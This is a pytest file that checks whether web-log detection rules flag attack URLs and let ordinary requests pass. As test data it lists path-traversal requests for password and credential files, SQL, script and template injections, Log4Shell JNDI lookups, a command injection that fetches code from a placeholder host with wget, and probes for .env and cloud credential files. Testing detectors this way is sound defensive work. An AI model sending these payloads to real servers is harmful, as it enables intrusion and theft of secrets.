"""Attacks in URLs as programs send them, in several disguises; and what ordinary people ask for."""

import pytest

from detection.sigma.samples import events_of
from tests.rules.conftest import Detection

TRAVERSAL = [
    "/../../../../etc/passwd",
    "/static/..%2f..%2f..%2fetc/passwd",
    "/cgi-bin/.%2e/.%2e/.%2e/bin/sh",
    "/%252e%252e/%252e%252e/etc/shadow",
    "/download?file=..\\..\\windows/win.ini",
    "/?page=/proc/self/environ",
    "/icons/..%c0%af..%c0%afetc/passwd",
    "/view?f=%2fetc%2fpasswd",
    "/a/%2E%2E/%2E%2E/secret",
]
INJECTION = [
    "/products?id=1+UNION+ALL+SELECT+null,version()",
    "/products?id=1%20union%20select%201,2",
    "/login?u=%27%20OR%20%271%27=%271",
    "/item?id=1;SELECT+pg_sleep(5)",
    "/item?id=1)+AND+SLEEP(5)--",
    "/s?q=%3Cscript%3Ealert(1)%3C/script%3E",
    "/?x=${jndi:ldap://198.51.100.7/a}",
    "/?x=%24%7Bjndi:ldap://198.51.100.7/a%7D",
    "/ping?host=127.0.0.1;wget+http://198.51.100.7/x",
    "/t?name={{7*7}}",
    "/s?q=%3Cimg+src=x+onerror%3Dalert(1)%3E",
    "/x?q=1/**/union/**/select/**/1",
]
ORDINARY = [
    "/",
    "/orders/42",
    "/files/report..pdf",
    "/search?q=trade+union+elections",
    "/search?q=select+a+colour",
    "/docs/etc/hosts",
    "/search?q=sleep+better",
    "/a.b/c.d?x=..",
    "/account?next=%2Forders%2F7",
    "/search?q=rock%27n%27roll",
    "/scripts/app.js",
    "/search?q=one+or+two",
    "/p?ids=1,2,3&sort=-price",
    "/search?q=O%27Reilly+or+Miller",
    "/wiki/Password",
    "/lessons/what-is-sql",
    "/bak/index.html",
    "/download?name=old.bak",
]


def asked(detection: Detection, url: str, status: int = 403) -> set[str]:
    line = f'203.0.113.7 - - [{{time}}] "GET {url} HTTP/1.1" {status} 153 "-" "Mozilla/5.0"'
    return set(detection.look(events_of([{"format": "nginx", "line": line}])))


@pytest.mark.parametrize("url", TRAVERSAL)
def test_a_way_out_of_the_folder_is_told(detection: Detection, url: str) -> None:
    assert "path_traversal" in asked(detection, url)


@pytest.mark.parametrize("url", INJECTION)
def test_an_injection_is_told(detection: Detection, url: str) -> None:
    assert "injection_attempt" in asked(detection, url)


@pytest.mark.parametrize("url", ORDINARY)
def test_what_people_ask_for_is_none(detection: Detection, url: str) -> None:
    assert asked(detection, url) == set()


@pytest.mark.parametrize(
    "url",
    [
        "/.env",
        "/.git/config",
        "/app/.env.production",
        "/old/backup.zip",
        "/backup.sql",
        "/db/dump.sql.gz",
        "/.aws/credentials",
    ],
)
def test_a_secret_that_was_answered_is_told(detection: Detection, url: str) -> None:
    assert "secret_file_served" in asked(detection, url, 200)
